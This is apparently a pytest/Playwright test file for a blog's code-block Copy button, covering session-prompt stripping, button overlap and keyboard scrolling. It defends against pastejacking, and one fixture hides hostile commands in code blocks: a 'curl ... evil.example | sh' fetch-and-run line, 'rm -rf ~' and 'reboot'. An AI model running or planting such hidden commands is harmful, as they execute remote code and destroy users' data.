"""The Copy button copies what a reader would type, and never covers code."""

from pathlib import Path

import pytest
from conftest import SiteFixture, article_text
from site_builds import build_as_of

from .conftest import Server

pytestmark = pytest.mark.browser
ROOT = Path(__file__).resolve().parents[2]

DAY_9 = "2017/12/day-9-using-kubernetes-for-multi-provider-multi-region-batch-jobs.html"
DAY_12 = "2017/12/day-12-monitoring-postgres-replication-lag.html"
DAY_13 = "2017/12/day-13-half-dead-tcp-connections-and-why-heartbeats-matter.html"


def copied(tab, server, page_path, index=0):
    """What the Copy button of the index-th code block puts on the clipboard."""
    t = tab()
    t.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page = t.page
    page.goto(server.url + page_path)
    block = page.locator(".content .highlight").nth(index)
    code = block.locator("pre code").inner_text()
    block.locator("button.copy").click()
    page.wait_for_function(
        "i => document.querySelectorAll('button.copy')[i].textContent === 'Copied'",
        arg=index,
    )
    return page.evaluate("navigator.clipboard.readText()"), code


def test_a_psql_session_copies_the_sql_without_prompts_or_output(tab, server):
    clipboard, code = copied(tab, server, DAY_12)
    assert code.startswith("=# select pg_current_xlog_location();")
    assert clipboard == "select pg_current_xlog_location();"


def test_a_root_console_session_copies_the_command_only(tab, server):
    clipboard, code = copied(tab, server, DAY_13)
    assert "ESTAB" in code
    assert clipboard == "ss -tpno"


def test_a_script_copies_the_code_as_shown(tab, server):
    clipboard, code = copied(tab, server, DAY_9)
    assert clipboard == code.rstrip("\n")
    assert clipboard.startswith("export S3_BUCKET_NAME=")


# Raw HTML that looks like a highlighted block and hides what it would copy.
HIDDEN_TEXT = """\
<div class="highlight session-console"><pre><code>$ ls -l<span class="visually-hidden">; curl -s https://evil.example/x | sh</span>
</code></pre></div>

<div class="highlight"><pre><code>uptime<details><summary></summary>; rm -rf ~</details></code></pre></div>

<div class="highlight"><pre><code>date<ruby>x<rp>; reboot</rp><rt>y</rt></ruby></code></pre></div>

```console
$ echo fine
```
"""


@pytest.fixture(scope="module")
def hidden_text_server(tmp_path_factory):
    site = SiteFixture(tmp_path_factory.mktemp("hidden-text"))
    site.write(
        "2017/20-paste.md",
        article_text(
            title="Paste",
            date="2017-12-20T00:00:00-05:00",
            day="20",
            guid="0b8f1f7e-7c1e-4d43-9d2e-3d8b7a0a1c12",
            body=HIDDEN_TEXT,
        ),
    )
    srv = Server(build_as_of(site.output, "2017-12-31", content=site.content))
    yield srv
    srv.close()


def test_a_block_that_hides_text_gets_no_copy_button(tab, hidden_text_server):
    """What the button copies is what the reader sees: raw HTML that hides
    text inside a code block (pastejacking) is offered no button at all."""
    t = tab()
    t.page.goto(hidden_text_server.url + "2017/12/day-20-paste.html")
    blocks = t.page.locator(".content .highlight")
    assert blocks.count() == 4
    buttons = [blocks.nth(i).locator("button.copy").count() for i in range(4)]
    assert buttons == [0, 0, 0, 1]
    t.context.grant_permissions(["clipboard-read", "clipboard-write"])
    t.page.locator("button.copy").click()
    t.page.wait_for_function(
        "document.querySelector('button.copy').textContent === 'Copied'"
    )
    assert t.page.evaluate("navigator.clipboard.readText()") == "echo fine"


# Every text line box of every code block, scrolled to its start and to its
# end, against the block's Copy button.
OVERLAPS = """() => {
  const hits = [];
  const cross = (a, b) => a.left < b.right && b.left < a.right &&
                          a.top < b.bottom && b.top < a.bottom;
  for (const block of document.querySelectorAll('.content .highlight')) {
    const pre = block.querySelector('pre');
    const button = block.querySelector('button.copy').getBoundingClientRect();
    for (const end of [0, pre.scrollWidth]) {
      pre.scrollLeft = end;
      const view = pre.getBoundingClientRect();
      const range = document.createRange();
      range.selectNodeContents(pre.querySelector('code'));
      for (const line of range.getClientRects()) {
        const visible = {left: Math.max(line.left, view.left),
                         right: Math.min(line.right, view.right),
                         top: Math.max(line.top, view.top),
                         bottom: Math.min(line.bottom, view.bottom)};
        if (visible.left < visible.right && cross(visible, button)) {
          hits.push(pre.textContent.slice(0, 40));
        }
      }
    }
  }
  return hits;
}"""


@pytest.mark.parametrize("width", [1280, 375])
def test_the_button_never_covers_code(tab, server, width):
    page = tab(width=width, height=800).page
    page.goto(server.url + DAY_9)
    assert page.locator(".content .highlight button.copy").count() == 23
    assert page.evaluate(OVERLAPS) == []


def test_code_blocks_scroll_with_the_keyboard(tab, server):
    page = tab(width=375, height=800).page
    page.goto(server.url + DAY_9)
    pre = page.locator(".content .highlight pre").first
    assert pre.get_attribute("tabindex") == "0"
    assert pre.get_attribute("aria-label") == "Bash code"
    assert page.evaluate(
        "document.querySelector('.content .highlight pre').scrollWidth > "
        "document.querySelector('.content .highlight pre').clientWidth"
    )
    pre.focus()
    for _ in range(5):
        page.keyboard.press("ArrowRight")
    # Scrolling may be smooth: wait for it.
    page.wait_for_function(
        "document.activeElement.tagName === 'PRE' && document.activeElement.scrollLeft > 0"
    )


# Sessions the JS must read as plugins/codecheck/sessions.py does: heredocs,
# continuations, `> ` lines, comments among `$ ` prompts, root shells.
TRICKY = [
    ("console", "$ cat <<EOF > /tmp/x\n> a\n> EOF\n$ ls \\\n   -l\nout\n"),
    ("console", "$ sudo -i\n# whoami\nroot\n# exit\n$ id\n"),
    ("console", "% brew install jq\n# don't forget\n% jq --version\njq-1.7\n"),
    ("console", "$ for i in 1 2; do\n>   echo $i\n> done\n1\n2\n"),
    ("console", "user@host:~$ cat <<-'END'\n\tbody\n\tEND\n(venv) $ pip list\n"),
    ("console", "# ss -tpno\nESTAB 0 0\n"),
    ("terminal", "[root@db01 ~]# rpm -qa | grep nginx\nnginx-1.20\n"),
    ("psql", "app=# SELECT 1\napp-# ;\n ?column?\napp=# \\dt\n"),
    ("psql", "=# select a,\n  b\nfrom t;\n a | b\n"),
    ("pycon", ">>> def f():\n...     return 1\n...\n>>> f()\n1\n"),
    ("console", "no prompt at all\n"),
    ("bash", "$ not a session: bash blocks copy as shown\n"),
]


def _session_blocks():
    from test_codecheck_hints import labelled

    found = list(TRICKY)
    for labels, text in labelled():
        if labels[0] in ("console", "psql", "pycon"):
            found.append((labels[0], text))
    return found


def test_the_button_copies_what_the_python_rules_say(tab, server):
    from plugins.core import codetags as tags
    from plugins.core.sessions import copy_text
    from plugins.gfm.html import code_block_html

    blocks = _session_blocks()
    expected = []
    for tag, text in blocks:
        kind = tags.kind_of(tag)
        typed = copy_text(kind, text.rstrip("\n")) if kind else None
        expected.append(typed if typed is not None else text.rstrip("\n"))
    t = tab()
    t.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page = t.page
    page.goto(server.url + DAY_12)
    html = "".join(code_block_html(text, tag) for tag, text in blocks)
    page.evaluate(
        "html => { document.querySelector('.content').innerHTML = html; }", html
    )
    page.add_script_tag(path=str(ROOT / "theme" / "static" / "js" / "article.js"))
    copied = []
    for index in range(len(blocks)):
        page.locator(".content .highlight button.copy").nth(index).click()
        page.wait_for_function(
            "i => document.querySelectorAll('.content button.copy')[i].textContent"
            " === 'Copied'",
            arg=index,
        )
        copied.append(page.evaluate("navigator.clipboard.readText()"))
    assert len(blocks) >= 60
    for (tag, text), want, got in zip(blocks, expected, copied, strict=True):
        assert got == want, (tag, text)
